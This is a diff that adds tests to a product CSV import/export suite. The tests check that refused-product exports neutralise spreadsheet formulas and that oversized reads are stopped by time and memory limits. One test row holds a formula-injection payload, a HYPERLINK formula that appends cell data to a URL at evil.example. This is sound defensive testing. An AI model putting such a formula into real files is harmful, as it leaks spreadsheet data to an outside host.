@@ -232,6 +232,21 @@ describe('what is wrong', () => {
     expect(await imported(text.replace('2kg,cheap', '2kg,12.90'))).toMatchObject({ added: 1, refused: 0 })
   })
 
+  test('is downloaded without formulas, and means the same when it is sent again', async () => {
+    const names = 'Handle,Title,Product Category,Vendor,Variant Price,Image Src'
+    const row = `=kelp,"=HYPERLINK(""http://evil.example/?""&A1,""x"")",Cabbage kimchi,@SUM(1),cheap,https://pics.example/1.jpg`
+    const refused = async (text: string) => {
+      const { pkId } = await checked(text)
+      return (await mall.call(mei, 'POST /bizConsole/exportRefusedProducts', { pkId })).raw
+    }
+    const text = await refused(`${names}\n${row}\n`)
+    expect(text.split('\r\n')[1]).toMatch(/^'=kelp,"'=HYPERLINK.*,'@SUM\(1\),cheap,/)
+    const again = await refused(text)
+    expect(again.split('\r\n')[1]).toMatch(/^'=kelp,"'=HYPERLINK.*,'@SUM\(1\),cheap,/)
+    expect(await imported(text.replace('cheap', '9.90'))).toMatchObject({ state: 'done', added: 1 })
+    expect(await exported()).toContain(`\r\n'=kelp,"'=HYPERLINK(`)
+  })
+
   test('is one product, when a picture belongs to another shop', async () => {
     const text = `Handle,Title,Product Category,Variant Price,Image Src\nkelp,海带,kimchi,9.90,/pictures/somebodys-800.webp\n`
     expect(await imported(text)).toMatchObject({ added: 0, refused: 1 })
@@ -252,6 +267,19 @@ describe('what is wrong', () => {
     const changed = (await exported()).replace('大葱', '小葱')
     expect(await imported(changed)).toMatchObject({ changed: 1, refused: 0 })
   })
+
+  test.each([
+    ['time', { mostMs: 0, mostMegabytes: 256 }, '花的时间太长'],
+    ['memory', { mostMs: 600_000, mostMegabytes: 4 }, '占用的内存太多'],
+  ])(
+    'is the whole file, when it takes too much %s, and the mall goes on',
+    async (_name, readingLimits, why) => {
+      const pkId = await sentFile(tools, mei, `${head}${sized('kelp', ['9.90'])}`)
+      await runOneJob({ ...tools, readingLimits }, pkId)
+      expect(await seen(pkId)).toMatchObject({ state: 'unreadable', reasons: [expect.stringContaining(why)] })
+      expect(await checked(`${head}${sized('kelp', ['9.90'])}`)).toMatchObject({ state: 'checked', added: 1 })
+    },
+  )
 
   test('is the whole file, when it is no table', async () => {
     const answer = await checked('%PDF-1.4 nothing to see here')
